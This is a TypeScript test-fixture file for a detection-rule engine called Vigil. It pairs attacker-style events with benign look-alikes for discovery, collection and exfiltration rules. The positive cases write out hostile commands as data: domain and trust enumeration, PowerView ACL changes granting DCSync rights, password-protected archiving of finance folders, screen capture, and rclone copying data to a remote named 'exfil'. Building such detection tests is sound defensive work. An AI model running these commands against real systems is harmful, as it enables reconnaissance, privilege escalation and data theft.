/** Positive and look-alike events for Vigil's discovery, collection and exfiltration rules. */
import {
  linuxProcess,
  powershellPath,
  processStart,
  type RuleCase,
  registrySet,
  scriptBlock,
  security,
  system32,
} from '../rule-case.js';

const consentStore =
  'HKU\\S-1-5-21-1\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\CapabilityAccessManager\\ConsentStore\\';

export const discoveryCollectionCases: RuleCase[] = [
  {
    title: 'Domain Accounts, Groups Or Trusts Enumerated From The Command Line',
    positive: () => [
      processStart(system32('net.exe'), 'net group "domain admins" /domain'),
      processStart(system32('nltest.exe'), 'nltest /domain_trusts /all_trusts'),
    ],
    negative: () => [
      processStart(system32('net.exe'), 'net use'),
      processStart(system32('nltest.exe'), 'nltest /sc_query:corp'),
    ],
  },
  {
    title: 'Privileged Local Group Membership Listed',
    positive: () => [processStart(system32('net.exe'), 'net localgroup administrators')],
    negative: () => [
      processStart(system32('net.exe'), 'net localgroup administrators bob /add'),
      processStart(system32('net.exe'), 'net localgroup "print operators"'),
    ],
  },
  {
    title: 'Network Shares Or Sessions Of Other Hosts Enumerated',
    positive: () => [
      processStart(system32('net.exe'), 'net view \\\\fileserver /all'),
      processStart(powershellPath, 'powershell Invoke-ShareFinder -CheckShareAccess'),
    ],
    negative: () => [
      processStart(system32('net.exe'), 'net share data /delete'),
      processStart(system32('net.exe'), 'net time \\\\dc01'),
    ],
  },
  {
    title: 'Installed Software Or Security Product Discovery Through The Registry',
    positive: () => [
      processStart(system32('reg.exe'), 'reg query "HKLM\\Software\\Microsoft\\Internet Explorer" /v svcVersion'),
    ],
    negative: () => [processStart(system32('reg.exe'), 'reg query HKCU\\Console')],
  },
  {
    title: 'LDAP Reconnaissance In A PowerShell Script',
    positive: () => [
      scriptBlock(
        '$s = New-Object DirectoryServices.DirectorySearcher; $s.Filter = "(&(samAccountType=805306368)(servicePrincipalName=*))"; $s.FindAll()',
      ),
    ],
    negative: () => [
      scriptBlock(
        '$s = New-Object DirectoryServices.DirectorySearcher; $s.Filter = "(sAMAccountName=$env:USERNAME)"; $s.FindOne().Properties.mail',
      ),
    ],
  },
  {
    title: 'Domain Reconnaissance Toolkit Functions In A PowerShell Script',
    positive: () => [scriptBlock('Get-DomainGroupMember -Identity "Domain Admins" -Recurse')],
    negative: () => [scriptBlock('Get-ADPrincipalGroupMembership -Identity $env:USERNAME')],
  },
  {
    title: 'Directory Object Permissions Changed',
    positive: () => [
      security(5136, {
        SubjectUserName: 'eve',
        AttributeLDAPDisplayName: 'nTSecurityDescriptor',
        ObjectDN: 'DC=corp,DC=local',
      }),
    ],
    negative: () => [
      security(5136, {
        SubjectUserName: 'eve',
        AttributeLDAPDisplayName: 'description',
        ObjectDN: 'CN=bob,DC=corp,DC=local',
      }),
    ],
  },
  {
    title: 'Directory Object Permissions Changed From A PowerShell Script',
    positive: () => [
      scriptBlock('Add-DomainObjectAcl -TargetIdentity "DC=corp,DC=local" -PrincipalIdentity eve -Rights DCSync'),
    ],
    negative: () => [scriptBlock('Get-Acl -Path C:\\Data | Format-List')],
  },
  {
    title: 'Local Administrators Group Or User Groups Enumerated By An Unusual Process',
    positive: () => [security(4799, { TargetUserName: 'Administrators', CallerProcessName: system32('net1.exe') })],
    negative: () => [security(4799, { TargetUserName: 'Administrators', CallerProcessName: system32('svchost.exe') })],
  },
  {
    title: 'Data Archived With A Password Or Split For Exfiltration',
    positive: () => [
      processStart(
        'C:\\Program Files\\7-Zip\\7z.exe',
        '7z.exe a -pS3cret! -mhe=on C:\\Users\\Public\\d.7z C:\\Finance',
      ),
    ],
    negative: () => [
      processStart('C:\\Program Files\\7-Zip\\7z.exe', '7z.exe x C:\\Downloads\\tools.7z -oC:\\Tools'),
      processStart('C:\\Program Files\\7-Zip\\7z.exe', '7z.exe a C:\\backup\\logs.7z C:\\logs'),
    ],
  },
  {
    title: 'Data Archived With A Password On Linux',
    positive: () => [linuxProcess('/usr/bin/zip', 'zip -r -P s3cret /tmp/.d.zip /home/bob/docs')],
    negative: () => [linuxProcess('/usr/bin/zip', 'zip -r /backup/docs.zip /home/bob/docs')],
  },
  {
    title: 'Microphone Or Camera Used By A Non-Store Program From An Unusual Folder',
    positive: () => [
      registrySet(
        `${consentStore}microphone\\NonPackaged\\C:#Users#bob#AppData#Local#Temp#rec.exe\\LastUsedTimeStart`,
        'QWORD (0x01d9-0x12345678)',
        system32('svchost.exe'),
      ),
    ],
    negative: () => [
      registrySet(
        `${consentStore}microphone\\NonPackaged\\C:#Program Files#Zoom#bin#Zoom.exe\\LastUsedTimeStart`,
        'QWORD (0x01d9-0x12345678)',
        system32('svchost.exe'),
      ),
    ],
  },
  {
    title: 'Audio, Screen Or Clipboard Capture From A PowerShell Script',
    positive: () => [
      scriptBlock(
        '$g = [Drawing.Graphics]::FromImage($bmp = New-Object Drawing.Bitmap 1920,1080); $g.CopyFromScreen(0,0,0,0,$bmp.Size)',
      ),
    ],
    negative: () => [scriptBlock('$img = [Drawing.Bitmap]::FromFile("C:\\logo.png"); $img.Width')],
  },
  {
    title: 'Cloud Storage Sync Tool Copies Data Out',
    positive: () => [
      processStart('C:\\Users\\Public\\rclone.exe', 'rclone.exe copy C:\\Finance remote:exfil --transfers 16'),
    ],
    negative: () => [processStart('C:\\Users\\Public\\rclone.exe', 'rclone.exe version')],
  },
  {
    title: 'Cloud Storage Sync Tool Copies Data Out On Linux',
    positive: () => [linuxProcess('/usr/bin/rclone', 'rclone sync /srv/data mega:backup')],
    negative: () => [linuxProcess('/usr/bin/rclone', 'rclone listremotes')],
  },
];
